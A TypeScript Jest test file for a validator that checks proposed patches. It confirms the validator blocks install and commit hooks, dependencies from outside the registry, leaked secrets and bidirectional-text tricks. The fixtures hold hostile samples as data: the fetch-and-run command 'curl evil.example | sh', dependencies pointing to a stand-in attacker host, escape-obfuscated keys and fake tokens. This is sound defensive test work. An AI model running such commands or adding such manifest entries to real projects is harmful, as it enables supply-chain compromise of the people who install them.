import { describe, expect, it } from '@jest/globals';
import { creating, MANIFEST, rewriting } from './a-patch.ts';

const script = (name: string, text = 'curl evil.example | sh'): string =>
  JSON.stringify({ scripts: { [name]: text } });
const dependency = (version: string, list = 'dependencies'): string =>
  JSON.stringify({ [list]: { left: version } });

describe('a manifest that runs code on install', () => {
  it.each([
    'preinstall',
    'install',
    'postinstall',
    'prepare',
    'preprepare',
    'postprepare',
    'prepublish',
    'dependencies',
  ])('by %s does not get through, however the file is written', (name) => {
    for (const text of [
      script(name),
      `\uFEFF${script(name)}`,
      script(name, ''),
      ` \n${script(name)}`,
    ])
      for (const path of ['packages/a/package.json', 'packages/a/Package.JSON'])
        expect(creating(path, text)).toEqual(['manifests']);
    const added = `"scripts":{"${name}":"x",`;
    expect(rewriting('package.json', '"scripts":{', added)).toEqual(['manifests']);
  });

  it.each([
    ['a key said twice', '"name":"a",', '"name":"a","scripts":{"test":"x"},', ['through']],
    [
      'a key said twice, the last one counts',
      MANIFEST,
      '{"scripts":{},"scripts":{"install":"x"}}',
      ['manifests'],
    ],
    ['an escape in the name', '"test"', '"\\u0069nstall"', ['manifests']],
    ['a prototype', '"test":"jest"', '"test":"jest","__proto__":{"install":"x"}', ['through']],
  ])('by %s', (_, search, by, wanted) =>
    expect(rewriting('package.json', search, by)).toEqual(wanted),
  );

  it('by a native module', () => {
    expect(creating('binding.gyp', '{}')).toEqual(['manifests']);
    expect(creating('packages/x/binding.gyp', '{}')).toEqual(['manifests']);
  });

  it.each([
    ['composer.json', '{"scripts":{"post-install-cmd":"x"}}'],
    ['app/composer.json', '{"config":{"allow-plugins":{"evil/x":true}}}'],
    ['packages/a/package.json', '{"dependenciesMeta":{"evil":{"built":true}}}'],
  ])('of another kind: %s %s', (path, text) => expect(creating(path, text)).toEqual(['manifests']));

  it.each(['husky', 'simple-git-hooks', 'gitHooks'])('or on commit, by %s', (name) =>
    expect(creating('packages/a/package.json', `{"${name}":{"pre-commit":"x"}}`)).toEqual([
      'manifests',
    ]),
  );

  it('by a file that is no JSON', () => {
    expect(creating('packages/a/package.json', `// x\n${script('install')}`)).toEqual([
      'manifests',
      'syntax',
    ]);
  });
});

describe('a dependency from outside the registry', () => {
  it.each([
    ...[
      'git+https://evil.example/x.git',
      'git+ssh://git@evil.example/x',
      'git://evil.example/x',
      'git@github.com:evil/x.git',
    ],
    ...[
      'https://evil.example/x.tgz',
      'http://evil.example/x',
      'HTTPS://evil.example/x',
      ' https://evil.example/x',
    ],
    ...[
      'evil/x',
      'evil/x#v1',
      'github:evil/x',
      'gitlab:evil/x',
      'bitbucket:evil/x',
      'gist:0123456789abcdef',
    ],
    ...[
      'file:../x',
      'link:../x',
      'portal:../x',
      'exec:./x.js',
      'patch:a@1#x',
      '../x',
      './x',
      '/x',
      '~/x',
      'C:\\x',
      '.',
      'x.tgz',
      'x.tar.gz',
      'x.tar',
    ],
    ...['npm:x@https://evil.example/x', 'npm:evil/x', 'ssh://evil.example/x'],
  ])('%j does not get through', (version) => {
    for (const list of [
      'dependencies',
      'devDependencies',
      'optionalDependencies',
      'peerDependencies',
      'overrides',
      'resolutions',
    ])
      expect(creating('packages/a/package.json', dependency(version, list))).toEqual(['manifests']);
  });

  it.each([
    ['a nested override', '{"overrides":{"a":{"b":{".":"evil/x"}}}}'],
    ['a package manager', '{"packageManager":"yarn@https://evil.example/yarn.js"}'],
  ])('nor does %s', (_, text) =>
    expect(creating('packages/a/package.json', text)).toEqual(['manifests']),
  );

  it.each([
    ['Cargo.toml', 'x = { "git" = "https://evil.example/x" }'],
    ['Cargo.toml', '"g\\u0069t" = "https://evil.example/x"'],
    ['pyproject.toml', 'dependencies = ["x @ \\u0068ttps://evil.example/x.whl"]'],
    ['pyproject.toml', 'dependencies = ["x @ g\\U00000069t+ssh://evil.example/x"]'],
    ['pyproject.toml', 'extra-index-url = [\n  "https://evil.example"\n]'],
    ['setup.cfg', 'install_requires =\n  x @ git+https://evil.example/x'],
    ['requirements.txt', 'x @ git\\\n+https:\\\n//evil.example/x'],
    ['requirements.txt', '# a comment joins nothing \\\ngit+https://evil.example/x'],
    ['requirements.txt', '--ind\\\nex-url evil'],
    ['requirements.txt', '--index\\\r\n-url evil\r\n'],
    ['Gemfile', 'gem "x", "git": "https://evil.example/x"'],
    ['gems.rb', "gem 'x', 'github' => 'evil/x'"],
    ['pubspec.yaml', 'dependencies:\n  x: { git: https://evil.example/x }'],
    ['composer.json', '{"repositories":[{"type":"vcs","url":"https://evil.example/x"}]}'],
  ])('is found in %s: %j', (path, text) => expect(creating(path, text)).toEqual(['manifests']));

  it.each([
    ['requirements.txt', 'x==1.0 \\\n    --hash=sha256:0a # https://example.com\n'],
    ['requirements.txt', '# https://example.com\nx==1.0  # see git+https://example.com\n'],
    ['pyproject.toml', '[project.urls]\nRepository = "https://example.com/a"\n'],
    ['pubspec.yaml', 'name: digits\ndependencies:\n  http: ^1.0.0\n'],
    ['composer.json', '{"scripts":{"test":"phpunit"},"require":{"a/b":"^1.0"}}'],
  ])('is not seen where there is none: %s %j', (path, text) =>
    expect(creating(path, text)).toEqual(['through']),
  );

  it.each([
    '1.0.0',
    '^1.0.0',
    '>=1 <2 || 3.x',
    '*',
    '',
    'latest',
    'npm:@s/x@^1.0.0',
    'workspace:^',
    'catalog:',
  ])('%j does', (version) =>
    expect(creating('packages/a/package.json', dependency(version))).toEqual(['through']),
  );
});

describe('a secret in a patch', () => {
  const token = `ghp_${'aB3d'.repeat(9)}`;
  const jwt = ['eyJhbGciOiJSUzI1NiJ9', 'eyJpc3MiOiIxMjM0NSJ9', 'c2lnbmF0dXJlLXg'].join('.');

  it.each([
    ['a token', token],
    ['a token of an installation', `ghs_123456_${jwt}`],
    ['a token behind a name', `MY_${token}`],
    ['a token in an address', `https://x:${token}@github.com/a/b`],
    ['a key', `sk-proj-${'aB3d'.repeat(12)}`],
    ['a JWT', jwt],
    ['a private key', '-----BEGIN RSA PRIVATE KEY-----'],
    ['a private key on one line', '"-----BEGIN EC PRIVATE KEY-----\\nMHcC"'],
    ['a header', `Authorization: Bearer ${'aB3d'.repeat(8)}`],
  ])('does not get through: %s', (_, secret) => {
    expect(creating('src/b.ts', `const x = 1;\n${secret}\n`)).toEqual(['secrets']);
    expect(rewriting('src/a.ts', 'export const a = 1;', secret)).toEqual(['secrets']);
  });
});

describe('an example of a secret', () => {
  it.each([
    'postgres://user:password@localhost:5432/db',
    'amqp://guest:guest@queue',
    `GITHUB_TOKEN=ghp_${'x'.repeat(36)}`,
    `OPENAI_API_KEY=sk-your-key-${'X'.repeat(20)}`,
  ])('gets through: %s', (text) => expect(creating('docs/a.md', text)).toEqual(['through']));

  it.each([
    'postgres://user:h7Gp2k9Q@localhost/db',
    'postgres://a:passwordx9@db',
    'ftp://a:pass1@b',
  ])('is told from one: %s', (text) => expect(creating('docs/a.md', text)).toEqual(['secrets']));
});

describe('code that reads otherwise than it runs', () => {
  it.each([...'\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069'])(
    'does not get through: %j',
    (char) => {
      expect(creating('src/b.ts', `if (admin /*${char} */) {}\n`)).toEqual(['hidden']);
      expect(rewriting('src/a.ts', '1', `1 /*${char}*/`)).toEqual(['hidden']);
    },
  );
});
